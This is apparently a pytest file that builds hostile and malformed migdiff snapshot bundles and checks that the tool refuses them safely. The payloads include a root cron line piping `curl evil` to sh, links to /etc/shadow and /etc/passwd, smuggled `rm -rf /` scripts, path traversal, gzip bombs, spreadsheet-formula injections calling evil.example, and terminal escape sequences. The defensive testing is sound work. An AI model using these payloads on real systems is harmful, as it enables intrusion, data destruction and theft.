"""Hostile and broken bundles, each crafted from a real one, each one line in CASES.

Bundles travel on USB sticks between air-gapped networks: migdiff must hold under all of it,
lose nothing and let nothing in.  Every case runs `migdiff validate CASE` and
`migdiff diff CASE REAL -o OUT` as subprocesses, from an empty working directory, with TMPDIR,
HOME and XDG_CONFIG_HOME pointed at empty folders, and checks:

- the exit status: 2 unreadable or unsafe (one line on stderr), 1 readable but wrong (one
  `INVALID` line from validate; diff refuses it with exit 2), 0 valid;
- that the one line names the file and holds the expected words;
- no traceback, no control character printed (a terminal would obey it);
- nothing written anywhere but OUT, no `.part` file left;
- peak RSS of each run under 200 MB (os.wait4: the child's own rusage).
"""
from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import os
import re
import random
import subprocess
import sys
import tarfile
import tracemalloc
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest

import migsnap
from conftest import SAMPLES
from crafted import (GNU_MAGIC, GzipStream, edit_json, fix_manifest, members, raw_only, recollect, sign, tar_bytes,
                     tar_data, tar_header, with_manifest_last, write_bomb, write_many_members, write_tgz)
from migdiff.bundle import DEFAULT_LIMITS, DOCUMENTS, MAX_JSON_CONTAINERS, read_bundle
from migdiff.errors import BundleError
from migdiff.validate import validate

MiB = 1024 * 1024
MAX_RSS_MB = 200
REAL = SAMPLES / "debian12-systemd.tgz"


# --- the real bundle the cases are made from ------------------------------------------------------

@dataclass
class Real:
    path: Path
    top: str
    files: dict[str, bytes]     # as this collector writes them from the sample's raw files
    original: dict[str, bytes]  # as the sample bundle holds them

    def copy(self) -> dict[str, bytes]:
        return dict(self.files)

    @property
    def raw(self) -> str:
        """A raw output listed in the manifest, not empty."""
        if self.files.get("raw/uname-r.out"):
            return "raw/uname-r.out"
        return next(n for n in sorted(self.files) if n.startswith("raw/") and n.endswith(".out") and self.files[n])


@pytest.fixture(scope="module")
def real() -> Real:
    if not REAL.exists():
        pytest.fail(f"{REAL} is missing (see sample_bundles/README.md)")
    top, files = members(REAL)
    # as this very collector would have written it from the sample's raw files: migdiff re-parses
    # a bundle only when it was written by the collector build it carries (manifest's sha256)
    return Real(REAL, top, recollect(files), files)


@pytest.fixture(scope="module")
def million(tmp_path_factory, real: Real) -> Path:
    """A million tiny members: built once, streaming (about 15 MB, 1 GB inflated)."""
    path = tmp_path_factory.mktemp("million") / "million.tgz"
    write_many_members(path, real.path, 1_000_000)
    return path


# --- the builders: each writes one crafted bundle to `out` ----------------------------------------

def _special(kind: bytes, linkname: str = "", devmajor: int = 0, devminor: int = 0) -> tarfile.TarInfo:
    info = tarfile.TarInfo()
    info.type, info.linkname, info.devmajor, info.devminor = kind, linkname, devmajor, devminor
    return info


def _slip(real: Real, out: Path, name: str, data: bytes | tarfile.TarInfo) -> None:
    """The real bundle with one more member slipped in before its manifest."""
    write_tgz(out, with_manifest_last(real.files, real.top, [(name, data)]))


def _raw_tar(real: Real, out: Path, hostile: bytes, files: dict[str, bytes] | None = None) -> None:
    """The real bundle written by hand: dirs and files, then `hostile` header blocks, then the manifest."""
    files = files or real.files
    body = [tar_header(f"{real.top}/", kind=b"5", mode=0o755)]
    body += [tar_header(f"{real.top}/{n}", len(d)) + tar_data(d) for n, d in files.items() if n != "manifest.json"]
    body.append(hostile)
    manifest = files["manifest.json"]
    body.append(tar_header(f"{real.top}/manifest.json", len(manifest)) + tar_data(manifest) + bytes(1024))
    out.write_bytes(gzip.compress(b"".join(body)))


def _pax(records: dict[str, str]) -> bytes:
    out = b""
    for key, value in records.items():
        body = f" {key}={value}\n".encode()
        n = len(body) + len(str(len(body)))
        n += len(str(n)) - len(str(len(body)))
        out += str(n).encode() + body
    return out


def _changed(real: Real, out: Path, change: Callable[[dict[str, bytes]], None], *fix: str) -> None:
    """The real bundle with `change` applied to its files, the manifest then updated for `fix`."""
    files = real.copy()
    change(files)
    if fix:
        fix_manifest(files, *fix)
    write_tgz(out, with_manifest_last(files, real.top))


def _edit_doc(member: str, edit: Callable[[dict], None], fix: bool = True):
    def build(real: Real, out: Path) -> None:
        _changed(real, out, lambda f: edit_json(f, member, edit), *((member,) if fix and member != "manifest.json"
                                                                      else ()))
    return build


def _doc_text(member: str, make: Callable[[dict], bytes]):
    """`member` replaced by the bytes `make` returns from its decoded document; manifest fixed."""
    def build(real: Real, out: Path) -> None:
        def change(files):
            files[member] = make(json.loads(files[member]))
        _changed(real, out, change, *((member,) if member != "manifest.json" else ()))
    return build


def _splice(doc: dict, path: list, raw: bytes) -> bytes:
    """The document serialized with `raw` (any bytes) put at `path`."""
    target = doc
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = "\x00SPLICE\x00"
    return json.dumps(doc).encode().replace(b'"\\u0000SPLICE\\u0000"', raw)


def b_absolute(real, out):
    _slip(real, out, "/etc/cron.d/evil", b"* * * * * root sh -c 'curl evil|sh'\n")


def b_dotdot(real, out):
    _slip(real, out, f"{real.top}/raw/../../../etc/cron.d/evil", b"* * * * * root sh\n")


def b_symlink(real, out):
    _slip(real, out, f"{real.top}/raw/shadow.out", _special(tarfile.SYMTYPE, "/etc/shadow"))


def b_hardlink(real, out):
    _slip(real, out, f"{real.top}/raw/passwd.out", _special(tarfile.LNKTYPE, "/etc/passwd"))


def b_chardev(real, out):
    _slip(real, out, f"{real.top}/raw/mem.out", _special(tarfile.CHRTYPE, devmajor=1, devminor=1))


def b_blockdev(real, out):
    _slip(real, out, f"{real.top}/raw/sda.out", _special(tarfile.BLKTYPE, devmajor=8, devminor=0))


def b_fifo(real, out):
    _slip(real, out, f"{real.top}/raw/fifo.out", _special(tarfile.FIFOTYPE))


def b_duplicate(real, out):
    _slip(real, out, f"{real.top}/{real.raw}", b"the second copy, which must not win\n")


def b_file_and_folder(real, out):
    _slip(real, out, f"{real.top}/{real.raw}/inside.out", b"x")


def b_huge_declared(real, out):
    # 100 GiB declared (GNU base-256 size), nothing behind it: refused before a byte is read
    _raw_tar(real, out, tar_header(f"{real.top}/raw/huge.out", 100 * 1024 * MiB))


def b_gnu_sparse(real, out):
    _raw_tar(real, out, tar_header(f"{real.top}/raw/sparse.out", 512, kind=b"S", magic=GNU_MAGIC) + bytes(512))


def b_pax_sparse(real, out):
    records = _pax({"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": f"{real.top}/raw/s.out",
                    "GNU.sparse.realsize": str(1 << 40)})
    body = b"999999999999\n" + b"0\n" * 2000
    _raw_tar(real, out, tar_header("././@PaxHeader", len(records), kind=b"x") + tar_data(records)
             + tar_header(f"{real.top}/raw/s.out", len(body)) + tar_data(body))


def b_bomb(real, out):
    write_bomb(out, real.path, 64, 63 * MiB)  # 4 MB that inflate to 4 GiB, each member under the cap


def b_bomb_one(real, out):
    write_bomb(out, real.path, 1, 63 * MiB)   # one member of zeros, under every limit


def b_pax_huge(real, out):
    with open(out, "wb") as f:
        gz = GzipStream(f)
        gz.write(tar_header(f"{real.top}/", kind=b"5"))
        gz.write(tar_header("././@PaxHeader", 1 << 30, kind=b"x"))
        gz.zeros(1 << 30)
        gz.write(tar_header(f"{real.top}/x", 0) + bytes(1024))
        gz.close()


def b_longname_huge(real, out):
    with open(out, "wb") as f:
        gz = GzipStream(f)
        gz.write(tar_header(f"{real.top}/", kind=b"5", magic=GNU_MAGIC))
        gz.write(tar_header("././@LongLink", 1 << 30, kind=b"L", magic=GNU_MAGIC))
        gz.zeros(1 << 30)
        gz.write(tar_header(f"{real.top}/x", 0, magic=GNU_MAGIC) + bytes(1024))
        gz.close()


def b_longname_chain(real, out):
    name = f"{real.top}/raw/x.out".encode() + b"\x00"
    link = tar_header("././@LongLink", len(name), kind=b"L", magic=GNU_MAGIC) + tar_data(name)
    _raw_tar(real, out, link * 20_000 + tar_header(f"{real.top}/raw/x.out", 0, magic=GNU_MAGIC))


def b_control_name(real, out):
    _slip(real, out, f"{real.top}/raw/evil\x1b]0;owned\x07\x1b[2J\nname.out", b"x")


def b_not_utf8_name(real, out):
    _raw_tar(real, out, tar_header(f"{real.top}/raw/caf".encode() + b"\xe9.out", 1) + tar_data(b"x"))


def b_after_end(real, out):
    tar = tar_bytes(with_manifest_last(real.files, real.top))
    hidden = tar_bytes([(f"{real.top}/raw/hidden.sh", b"rm -rf /\n")])
    out.write_bytes(gzip.compress(tar + hidden))


def b_second_gzip(real, out):
    tar = tar_bytes(with_manifest_last(real.files, real.top))
    out.write_bytes(gzip.compress(tar) + gzip.compress(tar_bytes([(f"{real.top}/raw/hidden.sh", b"rm -rf /\n")])))


def b_bad_crc(real, out):
    data = bytearray(gzip.compress(tar_bytes(with_manifest_last(real.files, real.top))))
    data[-8] ^= 0xFF  # the CRC-32 in the gzip trailer
    out.write_bytes(bytes(data))


def b_two_tops(real, out):
    _slip(real, out, "other-top/raw/x.out", b"x")


def b_empty_lists(real, out):
    # about 8 MiB of "[]," : 2.8 million lists, some 300 MB once decoded
    _doc_text("snapshot.json", lambda d: _splice(d, ["system", "issue"],
                                                 b"[" + b",".join([b"[]"] * (MAX_JSON_CONTAINERS * 2)) + b"]"))(real, out)


def b_flipped(real, out):
    def change(files):
        data = bytearray(files[real.raw])
        data[0] ^= 1
        files[real.raw] = bytes(data)
    _changed(real, out, change)


def b_absent(real, out):
    _changed(real, out, lambda files: files.pop(real.raw))


def b_extra(real, out):
    _slip(real, out, f"{real.top}/raw/smuggled.sh", b"#!/bin/sh\nrm -rf /\n")


def b_listed_twice(real, out):
    def edit(manifest):
        record = dict(manifest["entries"][0]["files"][0])
        record["sha256"] = "0" * 64
        manifest["entries"][1]["files"].append(record)
    _changed(real, out, lambda files: edit_json(files, "manifest.json", edit))


def _recollected(real: Real, out: Path, change: Callable[[dict[str, bytes]], None] | None = None,
                 edit_entries=None, **collector) -> None:
    """The real bundle with `change` applied to its raw files, then rebuilt by this collector from
    them (parsed.json, snapshot.json and the manifest agree with the raw files)."""
    files = real.copy()
    if change:
        change(files)
    write_tgz(out, with_manifest_last(recollect(files, edit_entries, **collector), real.top))


def b_raw_binary(real, out):
    # legitimate: a raw output is whatever the command printed, invalid UTF-8, NUL and escapes included
    def change(files):
        files[real.raw] = b"\xff\xfe\x00bad \xc3\x28 utf-8\x00\x1b]0;owned\x07\x1b[2J\r\n" + files[real.raw]
    _recollected(real, out, change)


def b_snapshot_escapes(real, out):
    # terminal escapes in host data, hashes right, but not what the raw files say: a forgery
    def edit(doc):
        doc["system"]["hostname"] = "evil\x1b]0;owned\x07\x1b[2J\r\nname"
        doc["system"]["kernel_release"] = "6.1\x9b31m\u202eevil"
    _edit_doc("snapshot.json", edit)(real, out)


# --- semantic cases: well-formed bundles whose content is hostile ------------------------------------

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil\u2066"


def b_raw_escapes(real, out):
    # what a host may really print: escapes and bidi overrides in the hostname, the arch, a package's arch
    def change(files):
        files["raw/hostname.out"] = f"web{ESCAPES}1\n".encode()
        files["raw/uname-m.out"] = f"x86_64{ESCAPES}\n".encode()
        lines = files["raw/dpkg-query.out"].decode().splitlines(keepends=True)
        name, version, arch, rest = lines[0].split("\t", 3)
        lines[0] = "\t".join([name, version, arch + ESCAPES, rest])
        files["raw/dpkg-query.out"] = "".join(lines).encode()
    _recollected(real, out, change)


# a package line of dpkg-query, as the collector's format asks for it
def _package_line(name: str, version: str) -> str:
    return "\t".join([name, version, "amd64", "install ok installed", "optional", "no", "admin", "", "", "", ""]) + "\n"


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "`![x](http://evil.example/p.png)`|col", "a|b`c`![y](http://evil.example/q)"]


def b_raw_formulas(real, out):
    # package names and versions a spreadsheet would run, or that break out of a Markdown table
    def change(files):
        extra = "".join(_package_line(name, "-1") for name in FORMULAS)
        files["raw/dpkg-query.out"] = files["raw/dpkg-query.out"] + extra.encode()
    _recollected(real, out, change)


def b_raw_giant(real, out):
    # a kernel release of 16 MiB (the collector's own cap for one output): every presenter caps it
    def change(files):
        files["raw/uname-r.out"] = b"6.1." + b"7" * GIANT + b"\n"
    _recollected(real, out, change)


def b_forged_snapshot(real, out):
    # a package's version changed in snapshot.json, the manifest's sha256 recomputed
    def edit(doc):
        doc["packages"][len(doc["packages"]) // 2]["version"] = "99.9-forged"
    _changed(real, out, lambda files: _compact_edit(files, "snapshot.json", edit), "snapshot.json")


def b_forged_parsed(real, out):
    def edit(doc):
        doc["entries"]["dpkg-query"]["data"][3]["version"] = "99.9-forged"
    _changed(real, out, lambda files: _compact_edit(files, "parsed.json", edit), "parsed.json")


def _compact_edit(files: dict[str, bytes], name: str, edit) -> None:
    doc = json.loads(files[name])
    edit(doc)
    files[name] = migsnap.json_bytes(doc, pretty=False)


def b_duplicate_key(real, out):
    # one object with a key twice: readers disagree on which one counts (Python's json: the last)
    def change(files):
        data = files["snapshot.json"]
        files["snapshot.json"] = data.replace(b'"hostname":', b'"hostname":"evil","hostname":', 1)
    _changed(real, out, change, "snapshot.json")


def b_manifest_infinity(real, out):
    def change(files):
        data = files["manifest.json"]
        start = data.index(b'"duration": ')
        end = data.index(b",", start)
        files["manifest.json"] = data[:start] + b'"duration": Infinity' + data[end:]
    _changed(real, out, change)


def _only_released(version: str):
    """The entries of a released collector's table, and no other (a later one may have more)."""
    from migdiff.trust import RELEASED

    def keep(entries):
        entries[:] = [entry for entry in entries if entry["id"] in RELEASED[version]]
    return keep


def _drop_entry(entry_id: str):
    return lambda entries: entries.remove(next(e for e in entries if e["id"] == entry_id))


def b_entry_twice(real, out):
    _recollected(real, out, edit_entries=lambda entries: entries.append(dict(entries[0])))


def b_entry_unknown(real, out):
    def edit(manifest):
        entry = dict(manifest["entries"][0], id="evil-extra", files=[])
        manifest["entries"].append(entry)
    _changed(real, out, lambda files: edit_json(files, "manifest.json", edit))


def b_signature_in_raw(real, out):
    _slip(real, out, f"{real.top}/raw/{migsnap.SIGNATURE_NAME}", b'{"format": "migsnap-signature"}\n')


def b_signature_wrong(real, out):
    _slip(real, out, f"{real.top}/{migsnap.SIGNATURE_NAME}",
          b'{"format": "migsnap-signature", "format_version": 1, "algorithm": "MD5", "key_id": "x", "mac": "y"}\n')


def b_signature_huge(real, out):
    _slip(real, out, f"{real.top}/{migsnap.SIGNATURE_NAME}", b" " * MiB + b"{}")


def b_signed(real, out):
    write_tgz(out, with_manifest_last(sign(real.copy(), b"site key kept in the safe"), real.top))


def b_fifo_bundle(real, out):
    os.mkfifo(out)


def b_dev_zero(real, out):
    out.symlink_to("/dev/zero")


def b_over_reparse_limit(real, out):
    # two raw outputs of 40 MiB each, under every container limit, listed with their sha256
    def change(files):
        files["raw/uname-r.out"] = b"6.1\n" + b"a\n" * (20 * MiB)
        files["raw/uname-m.out"] = b"x86_64\n" + b"b\n" * (20 * MiB)
    _recollected(real, out, change)


def b_unrelated(real, out):
    write_tgz(out, [("project-1.0/README", b"A project.\n"), ("project-1.0/setup.py", b"print('hi')\n")])


def b_empty_file(real, out):
    out.write_bytes(b"")


def b_plain_tar(real, out):
    out.write_bytes(tar_bytes(with_manifest_last(real.files, real.top)))


def b_gzip_random(real, out):
    out.write_bytes(gzip.compress(random.Random(1).randbytes(256 * 1024)))


def b_magic_random(real, out):
    out.write_bytes(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + random.Random(2).randbytes(64 * 1024))


def _truncated(fraction: int):
    def build(real: Real, out: Path) -> None:
        data = real.path.read_bytes()
        out.write_bytes(data[: len(data) * fraction // 10])
    return build


# --- raw-only bundles (migsnap.sh: raw output and a manifest), each broken one way ---------------------

SH = SAMPLES.parent / "snapshot" / "migsnap.sh"
SH_SHA = hashlib.sha256(SH.read_bytes()).hexdigest() if SH.is_file() else None  # what migdiff recognises


def _raw_only(change: Callable[[dict[str, bytes]], None] | None = None, tool: str | None = "sha256sum"):
    """The real bundle as migsnap.sh would have written it, then `change` applied to its files."""
    def build(real: Real, out: Path) -> None:
        files = raw_only(real.copy(), SH_SHA, tool)
        if change:
            change(files)
        write_tgz(out, with_manifest_last(files, real.top))
    return build


def _raw_manifest(edit: Callable[[dict], None]) -> Callable[[dict[str, bytes]], None]:
    return lambda files: edit_json(files, "manifest.json", edit)


def _raw_drop_entry(entry_id: str):
    def edit(manifest):
        entry = next(e for e in manifest["entries"] if e["id"] == entry_id)
        manifest["entries"].remove(entry)
    return _raw_manifest(edit)


def _raw_grow(real_name: str):
    def change(files):
        files[real_name] = files[real_name] + b"one more line\n"
    return change


def _raw_one_sha_null(manifest: dict) -> None:
    manifest["entries"][0]["files"][0]["sha256"] = None


def _raw_one_sha_set(manifest: dict) -> None:
    manifest["entries"][0]["files"][0]["sha256"] = "0" * 64


def _raw_carries(member: str):
    def change(files):
        files[member] = b'{"format": "migsnap-parsed", "format_version": 1, "entries": {}}\n'
    return change


def _raw_flip(files: dict[str, bytes]) -> None:
    data = bytearray(files["raw/uname-r.out"])
    data[0] ^= 1
    files["raw/uname-r.out"] = bytes(data)


RAW_ONLY_CASES: list[tuple[str, Callable, int, str]] = [
    ("raw only: lacks an entry of its collector's table", _raw_only(_raw_drop_entry("apk-world")), 1,
     f"manifest.json lacks 1 entry of migsnap.sh {migsnap.__version__}'s table: apk-world"),
    ("raw only: an entry its collector's table does not have",
     _raw_only(_raw_manifest(lambda m: m["entries"].append(dict(m["entries"][0], id="evil-extra", files=[])))), 1,
     f"manifest.json: 1 entry not in migsnap.sh {migsnap.__version__}'s table: evil-extra"),
    ("raw only, no hash tool: a file whose size does not match", _raw_only(_raw_grow("raw/uname-r.out"), tool=None),
     1, "raw/uname-r.out: "),
    ("raw only: a flipped byte under sha256sum", _raw_only(_raw_flip), 1,
     "raw/uname-r.out: sha256 does not match the manifest"),
    ("raw only: claims parsing none but carries parsed.json", _raw_only(_raw_carries("parsed.json")), 1,
     "parsed.json: in the bundle, but its manifest says nothing was parsed (parsing: none)"),
    ("raw only: claims parsing none but carries snapshot.json", _raw_only(_raw_carries("snapshot.json")), 1,
     "snapshot.json: in the bundle, but its manifest says nothing was parsed (parsing: none)"),
    ("raw only: a null sha256 beside sha256sum", _raw_only(_raw_manifest(_raw_one_sha_null)), 1,
     "sha256 is null, but hashes.tool is 'sha256sum'"),
    ("raw only: a sha256 where the host had no tool", _raw_only(_raw_manifest(_raw_one_sha_set), tool=None), 1,
     "a sha256, but hashes.tool is null"),
    ("raw only: parser warnings counted where nothing was parsed",
     _raw_only(_raw_manifest(lambda m: m["entries"][0].update(warnings=0))), 1,
     "entries[0] (uname-r): warnings is set, but nothing was parsed (parsing: none)"),
    ("raw only: lists parsed.json in files",
     _raw_only(_raw_manifest(lambda m: m.update(files=[{"name": "parsed.json", "size": 1, "sha256": "0" * 64}]))), 1,
     "files lists parsed.json, but nothing was parsed (parsing: none)"),
    ("raw only: no shell said", _raw_only(_raw_manifest(lambda m: m.pop("shell"))), 1,
     "shell is missing: a migsnap.sh bundle says where it was parsed, hashed and run"),
    ("raw only: a Python collector bundle saying parsing none",
     _raw_only(_raw_manifest(lambda m: m["collector"].update(name="migsnap"))), 1,
     "python is null, but the Python collector (migsnap) wrote the bundle"),
    ("raw only, no hash tool: the manifest listed as a raw file", _raw_only(_raw_manifest(
        lambda m: m["entries"][0]["files"].append({"name": "manifest.json", "role": "file", "path": "/etc/passwd",
                                                   "size": 1, "sha256": None})), tool=None), 1,
     "manifest.json: listed as a raw file, but raw files are under raw/"),
    ("raw only: sha256 computed on arrival, yet not parsed",
     _raw_only(_raw_manifest(lambda m: m.update(hashes={"tool": None, "computed": "migdiff on arrival",
                                                        "at": "2026-12-02T00:00:00Z"}))), 1,
     "hashes.computed is set, but nothing was parsed"),
]


DEEP = 100_000
BIG_NUMBER = b"1" + b"0" * 10 ** 6          # a million digits
GIANT = 16 * MiB                            # the collector's own cap for one output

# (id, builder, expected exit of validate, words the one line holds)
CASES: list[tuple[str, Callable, int, str]] = [
    ("absolute path", b_absolute, 2, "has an absolute path: refused"),
    ("dot-dot path", b_dotdot, 2, "climbs out with '..': refused"),
    ("symlink", b_symlink, 2, "is a symlink to '/etc/shadow': refused"),
    ("hard link", b_hardlink, 2, "is a hard link to '/etc/passwd': refused"),
    ("character device", b_chardev, 2, "is a character device: refused"),
    ("block device", b_blockdev, 2, "is a block device: refused"),
    ("FIFO", b_fifo, 2, "is a FIFO: refused"),
    ("duplicate member", b_duplicate, 2, "appears twice: refused"),
    ("file and folder of one name", b_file_and_folder, 2, "appears twice (as a file and a folder)"),
    ("member declares 100 GiB", b_huge_declared, 2, "over the 67108864-byte limit (--max-member-size)"),
    ("GNU sparse member", b_gnu_sparse, 2, "is a sparse file: refused"),
    ("pax sparse member (GNU 1.0)", b_pax_sparse, 2, "is a sparse file: refused"),
    ("gzip bomb: 64 members of 63 MiB zeros", b_bomb, 2,
     f"members add up to more than {DEFAULT_LIMITS.max_total_size} bytes (limit: --max-total-size)"),
    ("gzip bomb: one member of 63 MiB zeros", b_bomb_one, 1, "raw/zeros-0000.out: in the bundle but not in the manifest"),
    ("a million tiny members", None, 2, "more than 20000 members (limit: --max-members)"),
    ("pax header of 1 GiB", b_pax_huge, 2, "a pax header of 1073741824 bytes"),
    ("GNU long name of 1 GiB", b_longname_huge, 2, "a GNU long name header of 1073741824 bytes"),
    ("20,000 chained long-name headers", b_longname_chain, 2, "extended headers in a row"),
    ("control characters in a name", b_control_name, 2, "a control character"),
    ("name not UTF-8", b_not_utf8_name, 2, "is not UTF-8"),
    ("a tar hidden after the end", b_after_end, 2, "data after the end of the tar archive"),
    ("a second gzip member", b_second_gzip, 2, "data after the end of the tar archive"),
    ("gzip CRC wrong", b_bad_crc, 2, "corrupt gzip data (CRC check failed"),
    ("two top folders", b_two_tops, 2, "more than one top folder"),
    ("manifest.json nested 100,000 deep",
     _doc_text("manifest.json", lambda d: _splice(d, ["notes"], b"[" * DEEP + b"]" * DEEP)), 2,
     "manifest.json nests too deeply"),
    ("snapshot.json nested 100,000 deep",
     _doc_text("snapshot.json", lambda d: _splice(d, ["services"], b"{\"a\":" * DEEP + b"1" + b"}" * DEEP)), 1,
     "snapshot.json nests too deeply"),
    ("parsed.json nested 100,000 deep",
     _doc_text("parsed.json", lambda d: _splice(d, ["entries"], b"[" * DEEP + b"]" * DEEP)), 1,
     "parsed.json nests too deeply"),
    ("manifest.json: a number of 10**6 digits",
     _doc_text("manifest.json", lambda d: _splice(d, ["format_version"], BIG_NUMBER)), 2,
     "manifest.json holds a number too long"),
    ("snapshot.json: a number of 10**6 digits",
     _doc_text("snapshot.json", lambda d: _splice(d, ["system", "kernel_release"], BIG_NUMBER)), 1,
     "snapshot.json holds a number too long"),
    ("parsed.json: a float of 10**6 digits",
     _doc_text("parsed.json", lambda d: _splice(d, ["format_version"], b"0." + BIG_NUMBER)), 1,
     "parsed.json $.format_version"),
    ("snapshot.json: a 16 MiB string where a protocol goes",
     _edit_doc("snapshot.json", lambda d: d["ports"][0].update(protocol="x" * GIANT)), 1,
     "snapshot.json $.ports[0].protocol: 'xxxxx"),
    ("manifest.json: a 16 MiB hostname", _edit_doc("manifest.json", lambda d: d.update(hostname="h" * GIANT)), 0,
     "OK (host hhhhh"),
    ("snapshot.json: 2 million empty lists", b_empty_lists, 1,
     f"snapshot.json holds more than {MAX_JSON_CONTAINERS} objects and lists"),
    ("snapshot.json not UTF-8",
     _doc_text("snapshot.json", lambda d: _splice(d, ["system", "hostname"], b'"caf\xe9"')), 1,
     "snapshot.json is not UTF-8"),
    ("snapshot.json with a NUL byte",
     _doc_text("snapshot.json", lambda d: _splice(d, ["system", "hostname"], b'"a\x00b"')), 1,
     "snapshot.json contains a NUL byte"),
    ("manifest.json not UTF-8",
     _doc_text("manifest.json", lambda d: _splice(d, ["hostname"], b'"caf\xe9"')), 2,
     "manifest.json is not UTF-8"),
    ("raw output: invalid UTF-8, NUL, escapes (valid)", b_raw_binary, 0, ": OK (host "),
    ("snapshot.json: terminal escapes in host data, not from the raw files", b_snapshot_escapes, 1,
     "snapshot.json disagrees with the raw files: $.system.hostname"),
    # semantic: well-formed, hashes right, hostile content
    ("raw output: terminal escapes and bidi overrides reach the snapshot (valid)", b_raw_escapes, 0, ": OK (host "),
    ("raw output: spreadsheet formulas and Markdown in package names (valid)", b_raw_formulas, 0, ": OK (host "),
    ("raw output: a 16 MiB kernel release (valid)", b_raw_giant, 0, ": OK (host "),
    ("snapshot.json: a package version forged, manifest sha256 recomputed", b_forged_snapshot, 1,
     "snapshot.json disagrees with the raw files: $.packages["),
    ("parsed.json: a package version forged, manifest sha256 recomputed", b_forged_parsed, 1,
     "parsed.json disagrees with the raw files: $.entries['dpkg-query'].data[3].version"),
    ("snapshot.json: a key twice in one object", b_duplicate_key, 1,
     "snapshot.json: key 'hostname' appears twice in one object"),
    ("manifest.json: Infinity where a duration goes", b_manifest_infinity, 2,
     "manifest.json is not valid JSON: Infinity"),
    ("manifest lacks an entry of its collector's table", lambda real, out: _recollected(
        real, out, edit_entries=_drop_entry("apk-world")), 1,
     f"manifest.json lacks 1 entry of migsnap {migsnap.__version__}'s table: apk-world"),
    ("an entry twice in the manifest", b_entry_twice, 1, "manifest.json: entry uname-r appears twice"),
    ("an entry its collector's table does not have", b_entry_unknown, 1,
     f"manifest.json: 1 entry not in migsnap {migsnap.__version__}'s table: evil-extra"),
    ("migsnap 0.1.0 with entries it never had",
     lambda real, out: _recollected(real, out, edit_entries=_only_released("0.2.0"), version="0.1.0",
                                    sha256="0" * 64), 1,
     "manifest.json: 4 entries not in migsnap 0.1.0's table: apk-world, etc-default, init-scripts, pid-files"),
    ("this collector build under another version", lambda real, out: _recollected(real, out, version="0.1.0"), 1,
     f"manifest.json: the collector's sha256 is this migdiff's migsnap {migsnap.__version__}, its version says 0.1.0"),
    ("a collector version this migdiff does not know (valid, entries unchecked)",
     lambda real, out: _recollected(real, out, version="7.7.7", sha256="1" * 64), 0,
     "entries not checked: migsnap 7.7.7 is not a collector this migdiff knows"),
    ("another build of the collector (valid, not re-parsed)",
     lambda real, out: _recollected(real, out, sha256="0" * 64), 0, "not re-parsed: another build of migsnap"),
    ("raw files over the re-parse limit", b_over_reparse_limit, 1,
     "over the 67108864-byte re-parse limit (--max-reparse-size)"),
    ("signature.json in raw/, not in the manifest", b_signature_in_raw, 1,
     "raw/signature.json: in the bundle but not in the manifest"),
    ("signature.json: not a migsnap signature", b_signature_wrong, 1, "signature.json: algorithm is 'MD5'"),
    ("signature.json of 1 MiB", b_signature_huge, 2, "signature.json is 1048578 bytes"),
    ("a signature, no key given (valid, not verified)", b_signed, 0, "signed, key "),
    ("a FIFO given as the bundle", b_fifo_bundle, 2, "is a FIFO, not a regular file"),
    ("a symlink to /dev/zero given as the bundle", b_dev_zero, 2, "is a character device, not a regular file"),
    ("one flipped byte in a raw file", b_flipped, 1, ": sha256 does not match the manifest"),
    ("manifest lists an absent file", b_absent, 1, ": listed in the manifest but not in the bundle"),
    ("an extra file the manifest does not list", b_extra, 1,
     "raw/smuggled.sh: in the bundle but not in the manifest"),
    ("manifest lists a file twice, two sha256", b_listed_twice, 1, ": listed twice in the manifest"),
    *[(f"truncated at {10 * k}%", _truncated(k), 2, "truncated archive") for k in range(1, 10)],
    ("an unrelated tar.gz", b_unrelated, 2, "no manifest.json in the archive: not a migsnap bundle"),
    ("an empty file", b_empty_file, 2, "empty file, not a migsnap bundle"),
    ("a tar, not gzipped", b_plain_tar, 2, "not a gzip file"),
    ("a gzip of random bytes", b_gzip_random, 2, "a gzip file but not a tar archive"),
    ("random bytes behind a gzip header", b_magic_random, 2, "corrupt gzip data"),
    ("manifest.json is a JSON list", _doc_text("manifest.json", lambda d: b"[1, 2, 3]"), 2,
     "not a migsnap bundle (manifest format is a JSON list"),
    ("format_version is a string", _edit_doc("manifest.json", lambda d: d.update(format_version="1")), 2,
     "manifest.json has no usable format_version ('1', a JSON string"),
    ("a newer format version", _edit_doc("manifest.json", lambda d: d.update(format_version=2)), 2,
     "bundle format 2 is newer than this migdiff reads (1): upgrade migdiff"),
    ("a format version of 4,000 digits", _edit_doc("manifest.json", lambda d: d.update(format_version=10 ** 3999)), 2,
     "bundle format <a number of about 4000 digits> is newer than this migdiff reads (1): upgrade migdiff"),
    ("manifest.json: terminal escapes in the hostname (valid)",
     _edit_doc("manifest.json", lambda d: d.update(hostname="evil\x1b]0;owned\x07\x1b[2J")), 0,
     "OK (host evil\\x1b]0;owned\\x07\\x1b[2J, "),
    *RAW_ONLY_CASES,
]


# --- running migdiff as the user would ------------------------------------------------------------

@dataclass
class Run:
    code: int
    out: str
    err: str
    rss_mb: float


# Linux records the parent's resident size in a child's ru_maxrss when the child execs (the mm it
# leaves behind): a child of this big test process would report this process's size.  So a small
# launcher spawns migdiff and reports the grandchild's own rusage.
LAUNCHER = ("import os, sys; pid = os.posix_spawn(sys.argv[2], sys.argv[2:], os.environ); "
            "_, status, usage = os.wait4(pid, 0); "
            "open(sys.argv[1], 'w').write('%d %d' % (os.waitstatus_to_exitcode(status), usage.ru_maxrss))")


def migdiff(*args: str | Path, cwd: Path, env: dict[str, str], logs: Path) -> Run:
    """`python -m migdiff ARGS` in `cwd`, with its exit status and peak RSS (its own rusage)."""
    logs.mkdir(exist_ok=True)
    out, err, usage = logs / "stdout", logs / "stderr", logs / "rusage"
    with open(out, "wb") as o, open(err, "wb") as e:
        subprocess.run([sys.executable, "-S", "-c", LAUNCHER, str(usage), sys.executable, "-m", "migdiff",
                        *map(str, args)], cwd=cwd, env=env, stdin=subprocess.DEVNULL, stdout=o, stderr=e,
                       timeout=300, check=True)
    code, rss_kb = map(int, usage.read_text().split())
